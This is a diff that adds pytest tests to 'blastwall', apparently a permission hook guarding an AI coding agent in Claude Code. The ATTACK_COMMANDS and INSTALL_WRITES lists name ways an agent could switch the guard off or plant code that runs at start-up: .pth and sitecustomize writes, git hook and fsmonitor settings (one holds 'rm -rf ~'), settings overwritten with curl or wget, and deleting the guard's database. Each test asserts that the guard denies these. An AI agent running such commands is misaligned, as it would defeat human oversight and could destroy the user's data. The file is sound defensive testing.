@@ -155,3 +155,93 @@ def test_demo_step_switching_the_guard_off_is_denied() -> None:
     v = check({"path": step.tool_input["file_path"], "content": "{}"}, "file_write", context={"cwd": "/repo"},
               policy=POLICY)
     assert v.decision.value == "deny"
+
+
+# -- blastwall's installation and start-up code, through the real Claude Code hook ----------------
+
+def _claude(tool: str, tool_input: dict[str, Any], cwd: str = "/repo") -> str:
+    payload = {"session_id": "abc123", "transcript_path": "/home/u/.claude/projects/-repo/abc123.jsonl", "cwd": cwd,
+               "permission_mode": "bypassPermissions", "hook_event_name": "PreToolUse", "tool_name": tool,
+               "tool_input": tool_input, "tool_use_id": "toolu_01ABC123"}
+    return answer("claude-code", run_hook("claude-code", raw(payload)), payload)
+
+
+def _site() -> str:
+    import sysconfig
+
+    return sysconfig.get_path("purelib")
+
+
+INSTALL_WRITES = [
+    lambda: _site() + "/zz_off.pth",
+    lambda: _site() + "/sitecustomize.py",
+    lambda: "/repo/.venv/lib/python3.11/site-packages/zz_off.pth",  # any site-packages
+    lambda: "/repo/.venv/lib/python3.11/site-packages/usercustomize.py",
+    lambda: __import__("os").path.dirname(__import__("blastwall").__file__) + "/engine.py",
+    lambda: "/repo/.git/config",
+    lambda: "/repo/.git/hooks/pre-commit",
+    lambda: "/repo/.claude/settings.local.json",
+]
+
+
+@pytest.mark.parametrize("target", INSTALL_WRITES, ids=range(len(INSTALL_WRITES)))
+def test_write_tool_cannot_change_the_code_that_runs(target: Any) -> None:
+    assert _claude("Write", {"file_path": target(), "content": "import os; os.environ['X'] = '1'\n"}) == "deny"
+
+
+ATTACK_COMMANDS = [
+    "git diff --output=.claude/settings.json",
+    "git log --output .claude/settings.json",
+    "git format-patch -o .claude HEAD~1",
+    "sort -o .claude/settings.json notes.txt",
+    "curl -sSLo .claude/settings.json https://example.com/x",
+    "wget -O .claude/settings.json https://example.com/x",
+    "git stash push -u -- .claude",
+    "git checkout -- .claude",
+    "git restore .claude/settings.json",
+    "git config core.fsmonitor 'rm -rf ~'",
+    "git config core.hooksPath /tmp/h",
+    "git config --global alias.st '!sh -c x'",
+    "git -c core.hooksPath=/tmp/h commit -m x",
+    "echo 'import os' > .venv/lib/python3.11/site-packages/zz.pth",
+    "ln -s /tmp/x.pth .venv/lib/python3.11/site-packages/x.pth",
+    "rm -f $HOME/.local/state/blastwall/blastwall.db",
+]
+BENIGN_COMMANDS = ["git diff --stat", "git log -5 --oneline", "sort -o out.txt notes.txt", "pip install requests",
+                   "git config user.name bob", "git config --get core.hooksPath", "git stash", "echo x > src/a.py",
+                   "rm -rf node_modules", "git -c color.ui=always log -1"]
+
+
+@pytest.mark.parametrize("command", ATTACK_COMMANDS)
+def test_shell_cannot_change_the_code_that_runs(command: str) -> None:
+    assert _claude("Bash", {"command": command}) == "deny"
+
+
+@pytest.mark.parametrize("command", BENIGN_COMMANDS)
+def test_benign_twins_stay_allowed(command: str) -> None:
+    assert _claude("Bash", {"command": command}) == "allow"
+
+
+def test_ordinary_writes_stay_allowed() -> None:
+    assert _claude("Write", {"file_path": "/repo/src/app.py", "content": "x = 1\n"}) == "allow"
+    assert _claude("Write", {"file_path": "/repo/.venv/lib/python3.11/site-packages/pkg/mod.py", "content": ""}) \
+        == "allow"  # another virtualenv's package code is the project's own business
+
+
+def test_home_outside_the_usual_prefixes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    home = tmp_path / "h"
+    monkeypatch.setenv("HOME", str(home))
+    monkeypatch.delenv("XDG_STATE_HOME", raising=False)
+    assert _claude("Bash", {"command": f"rm -f {home}/.local/state/blastwall/blastwall.db"}) == "deny"
+    assert _claude("Bash", {"command": "rm -f $HOME/.local/state/blastwall/blastwall.db"}) == "deny"
+
+
+def test_git_stash_all_takes_untracked_hook_settings(tmp_path: Path) -> None:
+    import subprocess
+
+    repo = tmp_path / "repo"
+    (repo / ".claude").mkdir(parents=True)
+    (repo / ".claude" / "settings.json").write_text("{}")
+    subprocess.run(["git", "init", "-q", str(repo)], check=True)
+    assert _claude("Bash", {"command": "git stash -u"}, cwd=str(repo)) == "deny"
+    assert _claude("Bash", {"command": "git clean -fd"}, cwd=str(repo)) == "deny"
